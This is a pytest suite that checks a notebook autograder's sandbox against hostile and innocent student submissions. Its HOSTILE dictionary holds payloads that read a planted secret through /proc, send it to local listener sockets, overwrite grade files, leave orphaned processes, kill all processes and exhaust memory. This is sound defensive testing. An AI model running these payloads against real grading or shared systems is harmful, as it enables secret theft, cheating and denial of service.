"""The sandbox against hostile and innocent students, with the grader run as root and
as an ordinary user.

One class is graded per mode. Hostile submissions try to read a secret planted
in the grading user's home (directly, through /proc and by relative paths),
to send it to listeners on 127.0.0.1, to load the reference into a blank
notebook, to rewrite another student's results, to leave processes behind by
every route, to kill other sandboxes, to exhaust memory across processes and
to read the grader's memory. Innocent submissions do what real students do in
scratch cells. Pass means: the secret is in no result file and reached no
listener; blanks score 0; the honest students keep full marks in grades.csv
and gradebook.db; no process of a submission outlives the run; the grader
exits 0 with a row for every notebook; and every innocent variation keeps full
marks.
"""

import csv
import os
import pwd
import shutil
import socket
import sqlite3
import subprocess
import sys
import sysconfig
import tempfile
import threading
import uuid
from pathlib import Path

import nbformat
import pytest
from grading_helpers import EXERCISES, ROOT, answer_source, source_notebook, with_answer

pytestmark = pytest.mark.slow
A = "01_recurrence"
USER = "rnngrader"
MARKER = f"rnn-leftover-{uuid.uuid4().hex[:8]}"

HOSTILE = {
    "read_secret": "print(open({secret!r}).read())",
    "read_via_proc_root": "print(open('/proc/self/root' + {secret!r}).read())",
    "read_via_parent_cwd": (
        "import os\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        print(os.listdir(f'/proc/{{pid}}/cwd'), open(f'/proc/{{pid}}/cwd/' "
        "+ {secret_name!r}).read())\n"
        "    except Exception as e:\n"
        "        pass"),
    "chdir_reference": (
        "import os\n"
        "os.chdir({root!r})\n"
        "exec(open('solutions/reference/recurrence.py').read())"),
    "import_reference": "from solutions.reference import *",
    "exfiltrate": (
        "import socket\n"
        "for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), "
        "(socket.AF_INET, socket.SOCK_DGRAM)):\n"
        "    try:\n"
        "        s = socket.socket(family, kind); s.settimeout(2)\n"
        "        s.connect(('127.0.0.1', {tcp_port} if kind == socket.SOCK_STREAM "
        "else {udp_port}))\n"
        "        s.send(b'EXFIL ' + open({secret!r}, 'rb').read())\n"
        "    except Exception as e:\n"
        "        s = socket.socket(family, kind); s.settimeout(2)\n"
        "        try:\n"
        "            s.sendto(b'EXFIL hello', ('127.0.0.1', {udp_port}))\n"
        "            s.connect(('127.0.0.1', {tcp_port})); s.send(b'EXFIL hello')\n"
        "        except Exception:\n"
        "            pass"),
    "rewrite_results": (
        "import json, os\n"
        "for path in ({state!r}, {gradebook!r}, {grades!r}):\n"
        "    try:\n"
        "        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        "        open(path, 'w').write('{{}}')\n"
        "    except Exception:\n"
        "        pass"),
    "leave_processes": (
        "import os, subprocess, _posixsubprocess, sys\n"
        "code = 'import time; time.sleep(600)  # {marker}'\n"
        "subprocess.Popen([sys.executable, '-c', code], start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv(sys.executable, [sys.executable, '-c', code])\n"
        "    os._exit(0)\n"
        "r, w = os.pipe()\n"
        "_posixsubprocess.fork_exec([sys.executable, '-c', code], [sys.executable.encode()], "
        "True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True, 0, None, None, None, "
        "-1, None, False)"),
    "kill_everyone": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "memory_across_processes": (
        "import os, time\n"
        "for _ in range(3):\n"
        "    if os.fork() == 0:\n"
        "        try:\n"
        "            block = bytearray(900 << 20)\n"
        "            time.sleep(20)\n"
        "        finally:\n"
        "            os._exit(0)\n"
        "block = bytearray(900 << 20)"),
    "read_grader_memory": (
        "import os\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        print(open(f'/proc/{{pid}}/cmdline').read()[:80])\n"
        "        data = open(f'/proc/{{pid}}/mem', 'rb').read(100)\n"
        "    except Exception:\n"
        "        pass"),
}

INNOCENT = {
    "import_torch": "import torch\nprint(torch.zeros(2))",
    "subprocess_ls": "import subprocess\nprint(subprocess.run(['ls'], capture_output=True))",
    "numpy_fft_star_config": ("from numpy import *\nimport numpy as np\n"
                              "print(np.fft.fft(np.ones(4)))\nnp.show_config()"),
    "stdlib_and_yaml": "import asyncio, sqlite3, yaml, json, pathlib\nprint(yaml.safe_dump([1]))",
    "plot": ("import matplotlib.pyplot as plt\n%matplotlib inline\n"
             "plt.plot([1, 2, 3]); plt.title('loss')"),
    "magics": "%time x = sum(range(10))\n%timeit sum(range(10))\n!ls\n!false",
    "help_and_input": "help(len)\ntry:\n    input('name? ')\nexcept EOFError:\n    pass",
    "debug_files": ("open('debug.txt', 'w').write('x')\nimport os\nos.makedirs('out', "
                    "exist_ok=True)\nnp_path = os.listdir('.')\nprint(np_path)"),
    "prints": "for i in range(1000):\n    print(i, 'x' * 50)",
}


def _listener(kind, received, stop):
    sock = socket.socket(socket.AF_INET, kind)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.5)
    if kind == socket.SOCK_STREAM:
        sock.listen(8)

    def serve():
        while not stop.is_set():
            try:
                if kind == socket.SOCK_STREAM:
                    conn, _ = sock.accept()
                    conn.settimeout(1)
                    received.append(conn.recv(4096))
                    conn.close()
                else:
                    received.append(sock.recvfrom(4096)[0])
            except OSError:
                continue
        sock.close()

    threading.Thread(target=serve, daemon=True).start()
    return sock.getsockname()[1]


def _user_environment(tmp):
    """An environment the unprivileged user can run the grader from: Debian's Python
    (same minor version) seeing this project's installed packages."""
    venv = tmp / "uservenv"
    subprocess.run(["/usr/bin/python3.11", "-m", "venv", "--without-pip", str(venv)],
                   check=True)
    site = next((venv / "lib").glob("python3.11/site-packages"))
    ours = sysconfig.get_paths()["purelib"]
    (site / "rnn_course.pth").write_text(f"import site; site.addsitedir({ours!r})\n")
    # nbgrader runs `alembic` from PATH, which is the environment's bin/.
    alembic = venv / "bin" / "alembic"
    alembic.write_text(f"#!{venv / 'bin' / 'python'}\nfrom alembic.config import main\n"
                       "main()\n")
    alembic.chmod(0o755)
    return venv / "bin" / "python"


def _reachable_by_others(path):
    """Whether another user can reach `path` (every folder above it lets others pass)."""
    path = Path(path).resolve()
    return all(folder.stat().st_mode & 0o001 for folder in [path, *path.parents])


def _ensure_user():
    try:
        return pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(["useradd", "--create-home", "--shell", "/bin/sh", USER], check=True)
        return pwd.getpwnam(USER)


MODES = ["self"] + (["unprivileged"] if os.geteuid() == 0 else [])


@pytest.fixture(scope="module", params=MODES)
def graded(request):
    mode = request.param
    # Not pytest's tmp_path: its parent is private to the user running the tests.
    tmp = Path(tempfile.mkdtemp(prefix=f"rnn-security-{mode}-"))
    tmp.chmod(0o755)
    python, home, as_user = Path(sys.executable), Path.home(), []
    owner = None
    if mode == "unprivileged":
        if not (_reachable_by_others(ROOT) and _reachable_by_others(sys.prefix)):
            pytest.skip(f"{ROOT} or {sys.prefix} is private to this user: another user "
                        "cannot run this checkout's grader")
        user = _ensure_user()
        home, owner = Path(user.pw_dir), (user.pw_uid, user.pw_gid)
        python = _user_environment(tmp)
        # nbconvert's templates live in this environment's share/jupyter.
        as_user = ["runuser", "-u", USER, "--", "env",
                   f"JUPYTER_PATH={Path(sys.prefix) / 'share' / 'jupyter'}"]
    secret_text = f"TOP-SECRET-{uuid.uuid4().hex}"
    secret = home / f".rnn-secret-{uuid.uuid4().hex[:6]}"
    secret.write_text(secret_text)
    if owner:
        os.chown(secret, *owner)
    secret.chmod(0o600)
    received, stop = [], threading.Event()
    ports = {"tcp_port": _listener(socket.SOCK_STREAM, received, stop),
             "udp_port": _listener(socket.SOCK_DGRAM, received, stop)}
    subs, out = tmp / "submitted", tmp / "results"
    values = {"secret": str(secret), "secret_name": secret.name, "root": str(ROOT),
              "state": str(out / ".state" / "honest_a" / f"{A}.json"),
              "gradebook": str(out / "gradebook.db"), "grades": str(out / "grades.csv"),
              "marker": MARKER, **ports}
    correct = source_notebook(A)
    blank = nbformat.read(EXERCISES / f"{A}.ipynb", as_version=4)
    notebooks = {"honest_a": correct, "honest_b": correct}
    for name, code in HOSTILE.items():
        nb = nbformat.from_dict(blank)
        nb.cells.insert(3, nbformat.v4.new_code_cell(code.format(**values)))
        notebooks[f"hostile_{name}"] = nb
    for name, code in INNOCENT.items():
        nb = nbformat.from_dict(correct)
        nb.cells.insert(3, nbformat.v4.new_code_cell(code))
        notebooks[f"innocent_{name}"] = nb
    # Innocent answers written with things students do inside an answer cell.
    name = "rnn_cell_forward"
    body = answer_source(correct, name)
    notebooks["innocent_time_magic_in_answer"] = with_answer(correct, name, "%%time\n" + body)
    notebooks["innocent_tqdm_in_function"] = with_answer(
        correct, name, body.replace("    ### BEGIN SOLUTION",
                                    "    from tqdm import tqdm  # noqa\n    ### BEGIN SOLUTION"))
    notebooks["innocent_defined_twice"] = with_answer(correct, name, body + "\n\n" + body)
    for student, nb in notebooks.items():
        (subs / student / A).mkdir(parents=True)
        nbformat.write(nb, subs / student / A / f"{A}.ipynb")
    if owner:
        for path in [tmp, *tmp.rglob("*")]:
            os.chown(path, *owner)
    # Run from the home that holds the secret: the working folder is on sys.path.
    run = subprocess.run([*as_user, str(python), "-m", "autograder", "grade", str(subs),
                          "--out", str(out), "--quiet", "--jobs", "2", "--memory", "1024",
                          "--processes", "8", "--timeout", "120"],
                         cwd=home, capture_output=True, text=True, timeout=900)
    stop.set()
    leftovers = [p for p in Path("/proc").glob("[0-9]*")
                 if MARKER in _read(p / "cmdline")]
    yield {"mode": mode, "run": run, "out": out, "secret": secret_text,
           "received": received, "leftovers": leftovers, "students": set(notebooks)}
    secret.unlink(missing_ok=True)
    shutil.rmtree(tmp, ignore_errors=True)


def _read(path):
    try:
        return path.read_bytes().decode(errors="replace")
    except OSError:
        return ""


def _rows(out):
    with open(out / "grades.csv", newline="") as handle:
        return list(csv.DictReader(handle))


def _totals(out):
    totals = {}
    for row in _rows(out):
        got, full = totals.get(row["student"], (0.0, 0.0))
        totals[row["student"]] = (got + float(row["score"]), full + float(row["max_score"]))
    return totals


def test_grader_exits_zero_with_a_row_for_every_notebook(graded):
    run = graded["run"]
    assert run.returncode == 0, run.stderr[-2000:]
    assert "sandbox: bubblewrap" in run.stdout
    assert set(_totals(graded["out"])) == graded["students"]


def test_the_secret_reaches_no_result_file_and_no_listener(graded):
    for path in graded["out"].rglob("*"):
        if path.is_file():
            assert graded["secret"] not in _read(path), path
    assert not any(graded["secret"].encode() in data for data in graded["received"])
    assert not graded["received"], graded["received"]


def test_hostile_blanks_score_zero(graded):
    for student, (got, _full) in _totals(graded["out"]).items():
        if student.startswith("hostile_"):
            assert got == 0, student


def test_honest_students_keep_full_marks_in_csv_and_gradebook(graded):
    totals = _totals(graded["out"])
    db = sqlite3.connect(graded["out"] / "gradebook.db")
    for student in ("honest_a", "honest_b"):
        got, full = totals[student]
        assert got == full > 0, (student, got, full)
        (score,) = db.execute(
            "select sum(auto_score) from grade join submitted_notebook on "
            "grade.notebook_id = submitted_notebook.id join submitted_assignment on "
            "submitted_notebook.assignment_id = submitted_assignment.id "
            "where submitted_assignment.student_id = ?", (student,)).fetchone()
        assert score == full, (student, score)


def test_no_process_of_a_submission_outlives_the_run(graded):
    assert not graded["leftovers"], graded["leftovers"]


@pytest.mark.parametrize("name", [*INNOCENT, "time_magic_in_answer", "tqdm_in_function",
                                  "defined_twice"])
def test_innocent_work_keeps_full_marks(graded, name):
    rows = [r for r in _rows(graded["out"]) if r["student"] == f"innocent_{name}"]
    lost = [(r["item"], r["status"], r["message"]) for r in rows if r["score"] != r["max_score"]]
    assert rows and not lost, lost


def test_plots_appear_in_the_feedback(graded):
    html = (graded["out"] / "feedback" / "innocent_plot" / A / f"{A}.html").read_text()
    assert "data:image/png;base64" in html


def test_memory_is_bounded_for_the_notebook_as_a_whole(graded):
    """Four processes of 900 MiB each under --memory 1024: a cgroup as root, the grader's
    memory watch as an ordinary user (no cgroup here); either way the whole notebook is
    stopped and its feedback says why."""
    run = graded["run"]
    as_root = graded["mode"] == "self" and os.geteuid() == 0
    assert ("cgroup" if as_root else "memory watch") in run.stdout, run.stdout
    html = (graded["out"] / "feedback" / "hostile_memory_across_processes" / A
            / f"{A}.html").read_text()
    assert "together used more than its memory limit (1024 MiB)" in html
